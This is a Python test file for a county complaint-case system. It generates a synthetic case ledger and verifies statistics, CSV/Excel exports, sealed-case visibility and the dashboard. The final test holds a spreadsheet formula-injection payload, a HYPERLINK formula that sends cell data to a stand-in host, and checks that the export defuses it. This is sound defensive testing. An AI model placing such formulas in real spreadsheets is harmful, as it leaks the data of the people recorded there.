"""Statistics are reproducible from the ledger export: a generated year of cases, counted again from the CSV."""

from __future__ import annotations

import csv
import io
import random
from collections import defaultdict
from collections.abc import Awaitable, Callable
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

import openpyxl
import pytest

from accounts.principal import Principal
from cases.workflow import Workflow
from common.clock import ManualClock
from server import Runtime
from tests.cases.conftest import SHANGHAI, CaseMaker, County, People
from tests.conftest import BOTH_DATABASES
from tests.support.http import ApiClient

CATEGORIES = ["land", "neighbour", "wages", "welfare", "infrastructure", "policy"]
PERIOD = ("2026-01-01", "2026-06-30")
LAST_YEAR = ("2025-01-01", "2025-06-30")


@pytest.fixture
def clock() -> ManualClock:
    """Before the generated ledger's first case (the tests here move it through eighteen months)."""
    return ManualClock(datetime(2024, 12, 31, 9, tzinfo=SHANGHAI))


@dataclass(order=True)
class Step:
    at: datetime
    order: int
    run: Callable[[], Awaitable[object]]


@dataclass
class Plan:
    """Workflow steps of many generated cases, to run later in time order."""

    rng: random.Random
    steps: list[Step] = field(default_factory=list)

    def later(self, base: datetime, low: float, high: float) -> datetime:
        return base + timedelta(days=self.rng.uniform(low, high))

    def schedule(self, at: datetime, run: Callable[[], Awaitable[object]]) -> None:
        self.steps.append(Step(at, len(self.steps) + 1, run))


def on_case(
    holder: dict[str, int], action: Callable[..., Awaitable[object]], actor: Principal, **fields: object
) -> Callable[[], Awaitable[object]]:
    """The action on a generated case, whose id is known only once its creating step has run."""
    return lambda: action(actor, holder["id"], **fields)


def plan_path(
    plan: Plan, workflow: Workflow, holder: dict[str, int], actor: Principal, created: datetime, unit: int
) -> None:
    """A random way through the workflow after creation: left waiting, rejected, or on to resolution and beyond."""
    rng = plan.rng
    fate = rng.random()
    if fate < 0.1:
        return  # still waiting (may go overdue)
    decided = plan.later(created, 0.2, 20)  # sometimes after the 15-day deadline
    if fate < 0.18:
        plan.schedule(decided, on_case(holder, workflow.reject, actor, reason="不属实"))
        return
    plan.schedule(decided, on_case(holder, workflow.assign, actor, leader_name="包案", unit_id=unit))
    if fate < 0.3:
        return  # in progress
    resolved = plan.later(decided, 1, 75)  # sometimes late
    outcome = "partly_resolved" if rng.random() < 0.15 else "resolved"
    plan.schedule(resolved, on_case(holder, workflow.resolve, actor, outcome=outcome, result="已办", told_via="phone"))
    if fate < 0.45:
        return
    answer = rng.choices(["satisfied", "basically_satisfied", "unsatisfied"], [0.8, 0.12, 0.08])[0]
    followed = plan.later(resolved, 1, 3)
    plan.schedule(
        followed, on_case(holder, workflow.follow_up, actor, satisfaction=answer, method="phone", note="回访")
    )
    if answer == "unsatisfied":
        again = plan.later(followed, 2, 20)
        plan.schedule(
            again, on_case(holder, workflow.resolve, actor, outcome="resolved", result="重办", told_via="visit")
        )
    elif fate < 0.8:
        plan.schedule(plan.later(followed, 0.1, 2), on_case(holder, workflow.close, actor, note="销号"))


async def generate_ledger(
    runtime: Runtime, county: County, people: People, clock: ManualClock, hotline_case: CaseMaker, *, cases: int
) -> int:
    """Cases from January 2025 to June 2026, each taken a random way through the workflow, in time order."""
    rng = random.Random(20260302)
    plan = Plan(rng)
    workflow = runtime.cases.workflow
    operator: Principal = people.operator_county.principal
    walk_in: Principal = people.staff_a.principal
    start = datetime(2025, 1, 1, 8, tzinfo=SHANGHAI)
    clock.set(start)

    for _ in range(cases):
        created = start + timedelta(days=rng.uniform(0, 540))
        township = rng.choice([county.township_a, county.township_b, None])
        village = {county.township_a: county.village_a, county.township_b: county.village_b}.get(township or 0)
        if township is not None and rng.random() < 0.3:
            village = None
        category = rng.choice(CATEGORIES)
        sealed = rng.random() < 0.08
        test_call = rng.random() < 0.05
        walk = rng.random() < 0.25 and township is not None and not sealed and not test_call
        holder: dict[str, int] = {}

        async def create(
            township: int | None = township,
            village: int | None = village,
            category: str = category,
            sealed: bool = sealed,
            test_call: bool = test_call,
            walk: bool = walk,
            holder: dict[str, int] = holder,
        ) -> None:
            if walk:
                case = await workflow.create(walk_in, channel=rng.choice(["walk_in", "grid"]), summary="来访诉求",
                                             township_id=county.township_a, category=category)  # fmt: skip
            else:
                case = await hotline_case(township_id=township, village_id=village, recording=False,
                                          category="discipline" if sealed else "petition", test_call=test_call,
                                          created_at=clock.now())  # fmt: skip
                if not sealed and township is not None:
                    await workflow.triage(operator, case.id, category=category)
            holder["id"] = case.id

        plan.schedule(created, create)
        if township is None and not walk:
            continue  # stays unplaced: received, never accepted
        unit = county.unit_a if township == county.township_a or walk else county.unit_b
        plan_path(plan, workflow, holder, people.inspector.principal if sealed else operator, created, unit)
    end = datetime(2026, 7, 10, 10, tzinfo=SHANGHAI)
    for step in sorted(plan.steps):
        if step.at > end:
            continue
        clock.set(max(step.at, clock.now()))
        await step.run()
    clock.set(end)
    return len(plan.steps)


def figures_from(rows: list[dict[str, str]]) -> dict[str, Any]:
    """Every figure, counted straight from exported rows with the documented definitions."""
    answered = [row["满意度"] for row in rows if row["满意度"]]
    accepted = sum(1 for row in rows if row["受理时间"])
    resolved = sum(1 for row in rows if row["办结结果"] == "已化解")
    days = [float(row["办理天数"]) for row in rows if row["办理天数"]]
    good = sum(1 for answer in answered if answer in ("满意", "基本满意"))
    return {
        "received": len(rows),
        "accepted": accepted,
        "resolved": resolved,
        "partly_resolved": sum(1 for row in rows if row["办结结果"] == "部分化解"),
        "resolution_rate": round(resolved / accepted, 4) if accepted else None,
        "satisfied": answered.count("满意"),
        "basically_satisfied": answered.count("基本满意"),
        "unsatisfied": answered.count("不满意"),
        "satisfaction_rate": round(good / len(answered), 4) if answered else None,
        "overdue": sum(1 for row in rows if row["是否超期"] == "是"),
        "average_days_to_resolve": sum(days) / len(days) if days else None,
    }


def same(mine: dict[str, Any], theirs: dict[str, Any], where: str) -> None:
    for key, value in mine.items():
        if key == "average_days_to_resolve" and value is not None:
            assert theirs[key] is not None and abs(theirs[key] - value) < 0.006, (where, key, value, theirs[key])
        else:
            assert theirs[key] == value, (where, key, value, theirs[key])


async def export(client: ApiClient, date_from: str, date_to: str) -> list[dict[str, str]]:
    response = await client.get(f"/api/v1/cases/export.csv?created_from={date_from}&created_to={date_to}")
    assert response.status == 200
    text = (await response.read()).decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def group_key(row: dict[str, str], dimension: str) -> str:
    if dimension == "township":
        return row["乡镇"] or "（未定乡镇）"
    if dimension == "village":
        return f"{row['乡镇'] or '（未定乡镇）'}·{row['村（社区）'] or '（未定村）'}"
    if dimension == "category":
        return row["类别"]
    if dimension == "channel":
        return row["来源渠道"]
    return row["登记时间"][:7]


def check_report(report: dict[str, Any], current: list[dict[str, str]], last: list[dict[str, str]]) -> None:
    same(figures_from(current), report["total"], "total")
    same(figures_from(last), report["last_year_total"], "last year total")
    for dimension, groups in report["by"].items():
        mine: dict[str, list[dict[str, str]]] = defaultdict(list)
        mine_last: dict[str, list[dict[str, str]]] = defaultdict(list)
        for row in current:
            mine[group_key(row, dimension)].append(row)
        for row in last:
            key = group_key(row, dimension)
            if dimension == "month":
                key = f"{int(key[:4]) + 1}{key[4:]}"
            mine_last[key].append(row)
        labels = {group["label"] for group in groups}
        if dimension == "month":  # every month of the period is listed, even one without cases
            assert labels >= set(mine) | set(mine_last)
        else:
            assert labels == set(mine) | set(mine_last), dimension
        for group in groups:
            same(figures_from(mine.get(group["label"], [])), group["current"], f"{dimension} {group['label']}")
            same(figures_from(mine_last.get(group["label"], [])), group["last_year"], f"{dimension} last year")


# Slow: 90 cases made through the workflow, then every figure recounted from the exports (9 s on SQLite and
# 28 s on PostgreSQL in a loaded fast-tier run, the fast tier's longest).
@pytest.mark.slow
@pytest.mark.parametrize("db_kind", BOTH_DATABASES)
async def test_every_figure_is_counted_again_from_the_exported_ledger(
    runtime: Runtime, county: County, people: People, clock: ManualClock, hotline_case: CaseMaker
) -> None:
    await generate_ledger(runtime, county, people, clock, hotline_case, cases=90)
    query = f"date_from={PERIOD[0]}&date_to={PERIOD[1]}"
    for person, sealed_visible in ((people.leader, False), (people.inspector, True)):
        report = await person.client.get_json(f"/api/v1/statistics/cases?{query}")
        current = await export(person.client, *PERIOD)
        last = await export(person.client, *LAST_YEAR)
        assert report["includes_sealed"] is sealed_visible
        assert any(row["密封"] == "是" for row in current) is sealed_visible
        assert report["total"]["received"] > 20 and report["last_year_total"]["received"] > 20
        assert report["total"]["overdue"] > 0 and report["total"]["unsatisfied"] + report["total"]["partly_resolved"]
        check_report(report, current, last)
    leader = await people.leader.client.get_json(f"/api/v1/statistics/cases?{query}")
    inspector = await people.inspector.client.get_json(f"/api/v1/statistics/cases?{query}")
    assert leader["sealed_hidden"] > 0
    assert leader["total"]["received"] + leader["sealed_hidden"] == inspector["total"]["received"]
    assert {group["label"] for group in leader["by"]["category"]}.isdisjoint({"违纪举报"})


async def test_test_calls_never_count_and_the_excel_export_holds_the_same_rows(
    runtime: Runtime, county: County, people: People, clock: ManualClock, hotline_case: CaseMaker
) -> None:
    await hotline_case(township_id=county.township_a, test_call=True)
    await hotline_case(township_id=county.township_a)
    leader = people.leader.client
    report = await leader.get_json("/api/v1/statistics/cases")
    assert report["total"]["received"] == 1
    rows = await export(leader, "2024-01-01", "2024-12-31")
    assert len(rows) == 1
    response = await leader.get("/api/v1/cases/export.xlsx")
    assert response.status == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    book = openpyxl.load_workbook(io.BytesIO(await response.read()), read_only=True)
    sheet = book["台账"]
    values = [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]
    assert values[0][:3] == ["受理编号", "来源渠道", "登记时间"]
    assert dict(zip(values[0], values[1], strict=True)) == rows[0]


async def test_the_dashboard_draws_its_charts_without_scripts_and_shows_the_figures(
    runtime: Runtime, county: County, people: People, clock: ManualClock, hotline_case: CaseMaker
) -> None:
    await generate_ledger(runtime, county, people, clock, hotline_case, cases=25)
    html = await (await people.leader.client.get("/dashboard?date_from=2026-01-01&date_to=2026-06-30")).text()
    assert "<svg" in html and "各月受理登记" in html and "去年同期" in html
    assert "<script>" not in html and " style=" not in html
    assert 'data-headline="received"' in html
    bad = await people.leader.client.get("/dashboard?date_from=2026-06-30&date_to=2026-01-01")
    assert bad.status == 200 and "结束日期不能早于开始日期" in await bad.text()
    api = await people.leader.client.get("/api/v1/statistics/cases?date_from=2026-06-30&date_to=2026-01-01")
    assert api.status == 400 and (await api.json())["error"]["fields"] == {"date_to": "早于开始日期"}
    too_long = await people.leader.client.get("/api/v1/statistics/cases?date_from=2020-01-01&date_to=2026-01-01")
    assert too_long.status == 400 and (await too_long.json())["error"]["fields"] == {"date_to": "区间太长"}
    assert (await people.staff_a.client.get("/dashboard")).status == 403


@pytest.mark.slow
async def test_the_county_reports_192_found_and_169_resolved_read_as_88_percent_and_96_percent_satisfied(
    runtime: Runtime, county: County, people: People, clock: ManualClock
) -> None:
    """The seed report's figures (192 found, 169 resolved = 88 %, satisfaction 96 %), entered through the workflow."""
    workflow = runtime.cases.workflow
    staff, operator = people.staff_a.principal, people.operator_county.principal
    clock.set(datetime(2025, 3, 2, 9, tzinfo=SHANGHAI))
    cases = [
        await workflow.create(staff, channel="grid", summary=f"第{index}件", township_id=county.township_a)
        for index in range(192)
    ]
    for case in cases:
        await workflow.assign(operator, case.id, unit_id=county.unit_a, leader_name="包案领导")
    clock.advance(timedelta(days=20))
    for case in cases[:173]:
        await workflow.resolve(operator, case.id, outcome="resolved", result="化解", told_via="visit")
    clock.advance(timedelta(days=1))
    answers = ["satisfied"] * 90 + ["basically_satisfied"] * 6 + ["unsatisfied"] * 4
    for case, answer in zip(cases[:100], answers, strict=True):
        await workflow.follow_up(operator, case.id, satisfaction=answer, method="phone", note="回访")
    report = await people.leader.client.get_json("/api/v1/statistics/cases?date_from=2025-01-01&date_to=2025-12-31")
    total = report["total"]
    assert (total["received"], total["accepted"], total["resolved"]) == (192, 192, 169)
    assert total["resolution_rate"] == 0.8802 and total["satisfaction_rate"] == 0.96
    html = await (await people.leader.client.get("/dashboard?date_from=2025-01-01&date_to=2025-12-31")).text()
    assert "化解率 88.0%" in html and ">96.0%<" in html


async def test_text_that_looks_like_a_formula_is_exported_as_text(
    runtime: Runtime, county: County, people: People
) -> None:
    summary = '=HYPERLINK("http://example.invalid/?d="&A1,"点此查看")'
    await people.staff_a.client.post_json(
        "/api/v1/cases",
        {"channel": "walk_in", "summary": summary, "township_id": county.township_a, "caller_name": "@SUM(1)"},
        expect=201,
    )
    leader = people.leader.client
    [row] = await export(leader, "2024-12-31", "2024-12-31")
    assert row["诉求摘要"] == "'" + summary and row["姓名"] == "'@SUM(1)"
    response = await leader.get("/api/v1/cases/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(await response.read()))["台账"]
    header = [cell.value for cell in sheet[1]]
    cells = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert (cells["诉求摘要"].value, cells["诉求摘要"].data_type) == (summary, "s")
    assert (cells["姓名"].value, cells["姓名"].data_type) == ("@SUM(1)", "s")
